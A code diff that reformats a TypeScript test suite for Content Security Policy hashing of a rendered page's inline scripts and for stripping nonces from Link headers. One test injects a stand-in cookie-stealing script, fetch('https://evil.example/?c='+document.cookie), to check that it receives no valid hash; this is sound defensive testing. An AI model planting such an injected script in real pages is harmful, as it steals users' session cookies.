@@ -11,7 +11,9 @@ const NONCE = /<script[^>]*\snonce="([^"]+)"/.exec(RENDERED)![1];
 
 /** Every inline script of a page as the browser reads it, hashed independently of the code under test. */
 const inlineScripts = (html: string) =>
-  [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)].filter(([, attributes]) => !/\ssrc=/i.test(attributes)).map(([, , body]) => body);
+  [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)]
+    .filter(([, attributes]) => !/\ssrc=/i.test(attributes))
+    .map(([, , body]) => body);
 const sha256 = (text: string) => `sha256-${createHash("sha256").update(text).digest("base64")}`;
 
 describe("hashes of a rendered page's inline scripts", () => {
@@ -32,7 +34,10 @@ describe("hashes of a rendered page's inline scripts", () => {
   });
 
   it("do not cover a script injected into the page without the render's nonce", () => {
-    const injected = RENDERED.replace("</body>", "<script>fetch('https://evil.example/?c='+document.cookie)</script></body>");
+    const injected = RENDERED.replace(
+      "</body>",
+      "<script>fetch('https://evil.example/?c='+document.cookie)</script></body>",
+    );
     const { body, hashes } = hashNoncedInline(injected, NONCE);
     expect(body).toContain("<script>fetch('https://evil.example/");
     expect(hashes.scripts).not.toContain(sha256("fetch('https://evil.example/?c='+document.cookie)"));
@@ -59,6 +64,8 @@ describe("hashes of a rendered page's inline scripts", () => {
   });
 
   it("take the nonce out of a Link header's preload hints", () => {
-    expect(withoutNonce(`</a.css>; rel=preload; as="style"; nonce="n+1/"`, "n+1/")).toBe(`</a.css>; rel=preload; as="style"`);
+    expect(withoutNonce(`</a.css>; rel=preload; as="style"; nonce="n+1/"`, "n+1/")).toBe(
+      `</a.css>; rel=preload; as="style"`,
+    );
   });
 });
